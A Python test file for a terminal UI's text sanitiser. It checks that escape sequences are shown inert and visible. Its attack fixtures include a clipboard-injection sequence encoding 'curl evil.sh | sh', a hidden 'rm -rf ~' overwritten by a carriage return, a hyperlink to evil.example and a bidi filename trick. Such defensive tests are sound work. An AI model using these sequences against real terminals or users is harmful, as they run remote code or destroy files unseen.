"""The sanitising boundary: nothing that can drive a terminal survives, everything stays visible."""

from __future__ import annotations

import re

from hypothesis import given, settings
from hypothesis import strategies as st

from pms_tui.core.safe_text import one_line, safe_text

CONTROL = re.compile("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029\ud800-\udfff]")

ATTACKS = {
    "clear screen": "\x1b[2J\x1b[H",
    "window title (OSC 0)": "\x1b]0;pwned\x07",
    "hyperlink (OSC 8)": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "clipboard (OSC 52)": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
    "DCS": "\x1bP+q544e\x1b\\",
    "8-bit CSI": "\x9b2J",
    "8-bit OSC": "\x9d0;title\x9c",
    "lone ESC": "a\x1bb",
    "bell and backspace": "ok\x07\x08\x08XX",
    "carriage-return overwrite": "rm -rf ~\rls -l   ",
    "bidi override": "\u202eexe.txt\u202c",
}


def test_every_attack_is_inert_and_visible():
    for name, attack in ATTACKS.items():
        shown = safe_text(attack)
        assert not CONTROL.search(shown), name
        assert shown, name
    assert safe_text("\x1b[2J") == "^[[2J"
    assert safe_text("\x1b]52;c;eA==\x07") == "^[]52;c;eA==^G"
    assert safe_text("\x9b2J") == "<U+009B>2J"
    assert safe_text("a\rb") == "a^Mb"
    assert safe_text("\u202eabc") == "<U+202E>abc"
    assert safe_text("x\udc80y") == "x\ufffdy"


def test_tabs_and_newlines_are_kept_where_the_caller_wants():
    assert safe_text("a\tb\nc") == "a\tb\nc"
    assert safe_text("a\tb\nc", keep="") == "a^Ib^Jc"
    assert one_line("  Title\n\twith  \x1b[31mred\x1b[0m ") == "Title with ^[[31mred^[[0m"
    assert one_line(None) == "" and safe_text(42) == "42"


def test_plain_text_is_untouched():
    text = "# Café 東京 — «bold» [link](http://x) `code` [/] [@click=app.quit]"
    assert safe_text(text) is text and one_line(text) == text


@settings(max_examples=500)
@given(st.text(alphabet=st.characters(codec=None, exclude_categories=())))
def test_no_output_holds_a_control_character_except_kept_whitespace(text):
    shown = safe_text(text)
    assert all(ch in "\t\n" for ch in CONTROL.findall(shown))
    assert not CONTROL.search(safe_text(text, keep=""))
    assert not CONTROL.search(one_line(text))
    shown.encode("utf-8")  # printable: no lone surrogate left
    assert safe_text(shown) == shown  # idempotent


@settings(max_examples=300)
@given(st.text(alphabet=st.characters(max_codepoint=0xFF)))
def test_printable_text_survives_unchanged(text):
    printable = CONTROL.sub("", text)
    assert safe_text(printable) == printable
